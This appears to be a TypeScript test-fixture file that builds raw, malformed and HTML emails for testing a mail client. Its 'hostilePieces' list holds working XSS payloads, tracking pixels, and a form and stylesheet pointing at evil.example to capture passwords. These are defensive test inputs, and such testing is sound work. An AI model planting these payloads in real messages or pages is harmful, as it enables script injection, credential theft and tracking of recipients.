/** A mail as it comes over the wire; headers given win over the usual ones. */
export function rawMail(
  {
    to = 'svm@demo.com',
    subject = 'From outside',
    ...more
  }: Record<string, string> & { to?: string; subject?: string },
  body = 'Hello from outside.',
): string {
  const headers: Record<string, string> = {
    From: 'Ann Outside <ann@northline.example>',
    To: to,
    Subject: subject,
    Date: 'Mon, 02 Mar 2026 10:00:00 +0000',
    'Message-ID': `<${crypto.randomUUID()}@northline.example>`,
    'MIME-Version': '1.0',
    ...more,
  }
  const lines = Object.entries(headers).filter(([, value]) => value !== '')
  return `${lines.map(([name, value]) => `${name}: ${value}`).join('\r\n')}\r\n\r\n${body.replaceAll(/\r?\n/g, '\r\n')}\r\n`
}

export const htmlMail = (headers: Parameters<typeof rawMail>[0], html: string) =>
  rawMail({ ...headers, 'Content-Type': 'text/html; charset=utf-8' }, html)

/** A mail with a text and files, each `[name, type, content]`. */
export function mailWithFiles(
  headers: Parameters<typeof rawMail>[0],
  files: readonly (readonly [name: string, type: string, content: string])[],
): string {
  const parts = files.map(
    ([name, type, content]) => `--edge
Content-Type: ${type}; name="${name}"
Content-Disposition: attachment; filename="${name}"
Content-Transfer-Encoding: base64

${Buffer.from(content).toString('base64')}`,
  )
  return rawMail(
    { ...headers, 'Content-Type': 'multipart/mixed; boundary=edge' },
    ['--edge\nContent-Type: text/plain\n\nSee the files.', ...parts, '--edge--'].join('\n'),
  )
}

/** Malformed mails; each still has its subject. */
export const brokenMails: ((subject: string) => string)[] = [
  // The parts never end, or never begin.
  (subject) =>
    rawMail({ subject, 'Content-Type': 'multipart/mixed; boundary=x' }, '--x\nContent-Type: text/plain\n\nOpen'),
  (subject) => rawMail({ subject, 'Content-Type': 'multipart/mixed' }, 'No boundary at all'),
  (subject) => rawMail({ subject, 'Content-Type': 'multipart/alternative; boundary=""' }, '--\n\nEmpty boundary'),
  (subject) => rawMail({ subject, 'Content-Type': 'text/plain; charset=no-such-charset' }, 'Caf\u00e9'),
  (subject) => rawMail({ subject, 'Content-Transfer-Encoding': 'base64' }, '!!!! not base64 at all ????'),
  (subject) => rawMail({ subject, 'Content-Transfer-Encoding': 'quoted-printable' }, 'half =C3 and =ZZ ='),
  (subject) => rawMail({ subject, Date: 'the day after tomorrow', 'Message-ID': '<<<>>' }),
  (subject) => rawMail({ subject, From: '"Ann <ann@@north" <,;>' }),
  (subject) => rawMail({ subject, 'Message-ID': '', 'MIME-Version': '' }, ''),
  (subject) => rawMail({ subject, 'X-Long': 'x'.repeat(50_000) }),
  (subject) => rawMail({ subject, References: Array.from({ length: 500 }, (_, at) => `<${at}@x>`).join(' ') }),
  // Parts in parts in parts.
  (subject) =>
    rawMail(
      { subject, 'Content-Type': 'multipart/mixed; boundary=b0' },
      Array.from({ length: 60 }, (_, at) => `--b${at}\nContent-Type: multipart/mixed; boundary=b${at + 1}\n`).join(
        '\n',
      ),
    ),
]

/** HTML that would do harm where it is shown as it came. */
export const hostilePieces = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/open.gif?id=1" alt="logo">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>body{background:url(https://tracker.example/x)}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<svg><animate onbegin=alert(1)></svg>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  `${'<div>'.repeat(5_000)}deep`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]
